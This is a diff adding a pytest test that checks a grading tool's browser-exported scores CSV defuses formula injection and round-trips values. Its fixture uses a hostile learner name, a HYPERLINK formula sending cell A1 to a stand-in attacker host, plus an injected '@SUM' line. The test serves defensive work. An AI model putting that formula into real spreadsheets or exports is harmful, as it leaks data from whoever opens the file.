@@ -8,6 +8,10 @@ import json
 import pytest
 
 from coursekit.cli.app import main
+from coursekit.exporters import Batch
+from coursekit.exporters.review import write_review
+from coursekit.grading.results import ExerciseGrade, SubmissionGrade
+from coursekit.grading.reviews import read_reviews
 from coursekit.running.notebooks import write
 
 from .conftest import lesson_notebook
@@ -83,3 +87,35 @@ def test_grade_review_in_the_browser_and_merge(graded_class, chromium):  # noqa:
     table = {r["learner"]: r for r in csv.DictReader(gradebook.open(encoding="utf-8-sig"))}
     assert table["alice"]["q9"] == "3" and table["bob"]["q9"] == "2.5"
     assert table["chen"]["q9"] == "0"
+
+
+def test_the_scores_csv_is_safe_to_open_and_reads_back_as_typed(tmp_path, chromium):  # noqa: F811
+    """The page's CSV: a learner's name or a comment a spreadsheet would run gets a quote
+    before it; a carriage return is quoted as a line feed is; ``--reviews`` reads the
+    values back as they were."""
+    hostile = '=HYPERLINK("attacker.example?"&A1,"open")'
+    waiting = ExerciseGrade("q9", "needs_review", 2, 3, "\u270e the teacher's part")
+    grades = [SubmissionGrade(f"class/{hostile}.ipynb", "02_percentages", "graded", None, 2,
+                              11, [waiting], written_answers={"q9": "88.9 percent"})]
+    page_file = tmp_path / "review.html"
+    write_review(Batch(grades, lesson_ids=frozenset({"02_percentages"})), page_file)
+    page = chromium.new_page(accept_downloads=True)
+    page.goto(page_file.as_uri())
+    # HTML reads a carriage return in the page as a line feed; a script can still add one
+    page.evaluate("document.querySelector('article').dataset.learner += '\\r@SUM(1)';"
+                  "document.querySelector('article').dataset.lesson += '\\rx'")
+    page.locator("article textarea.comment").fill("-1 for rounding\nsee the key")
+    page.locator("article input.criterion").fill("1")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download scores (CSV)").click()
+    download.value.save_as(tmp_path / "scores.csv")
+    page.close()
+    raw = (tmp_path / "scores.csv").read_bytes().decode("utf-8")
+    learner = hostile + "\r@SUM(1)"
+    assert '"\'' + learner.replace('"', '""') + '"' in raw
+    assert "\"'-1 for rounding\n" in raw and ',"02_percentages\rx",' in raw
+    with open(tmp_path / "scores.csv", encoding="utf-8", newline="") as stream:
+        assert len(list(csv.reader(stream))) == 2  # the header and one row
+    review = read_reviews(tmp_path / "scores.csv")[0]
+    assert (review.learner, review.lesson, review.teacher_points, review.comment) == (
+        learner, "02_percentages\rx", 1.0, "-1 for rounding\nsee the key")
